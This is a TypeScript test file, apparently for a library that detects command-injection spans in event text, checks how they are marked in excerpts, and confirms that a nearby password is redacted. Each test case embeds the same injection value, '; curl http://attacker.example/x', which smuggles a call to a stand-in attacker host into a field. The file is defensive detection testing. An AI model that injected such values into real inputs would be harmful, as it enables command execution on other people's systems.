import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type InspectOptions, inspectReading, readEvent } from '@postern/inspect';
import { markSpan } from './mark-span.ts';

const attack = '; curl http://attacker.example/x';
const rows: readonly { readonly name: string; readonly event: unknown; readonly options?: InspectOptions; readonly expected: RegExp }[] = [
  { name: 'the whole text is shown', event: { v: `a${attack} b` }, expected: /^a; «curl http:[^«»]+»[^…]*$/ },
  {
    name: 'a text that goes on',
    event: { v: `${'word '.repeat(200)}${attack}\n${' word'.repeat(200)}` },
    expected: /^…[^«]*«curl [^»]+»[^»]*…$/,
  },
  { name: 'control characters', event: { v: `a\u0007\n${attack}` }, expected: /^a\\u0007\\n; «curl / },
  { name: 'a view', event: { v: JSON.stringify({ a: `b${attack}` }) }, expected: /^b; «curl / },
  { name: 'a secret in front', event: { v: `password=hunter2222222222${attack}` }, expected: /‹redacted›; «curl [^»]+»$/ },
  { name: 'a span longer than the excerpt', event: { v: `${'a'.repeat(400)}!` }, expected: /^«[^«»]+…$/ },
  { name: 'less than an excerpt is kept', event: { v: `a${attack}` }, options: { keep: { cmdi: 'shape' } }, expected: /^[^«»]+$/ },
  { name: 'nothing is kept', event: { v: `a${attack}` }, options: { keep: { cmdi: 'nothing' } }, expected: /^$/ },
];
for (const { name, event, options, expected } of rows)
  test(name, () => {
    const reading = readEvent(event);
    const { detections } = inspectReading(reading, event, options);
    const marked = detections.map((detection) => markSpan(detection, reading));
    assert.ok(
      marked.some((text) => expected.test(text)),
      marked.join('\n'),
    );
  });
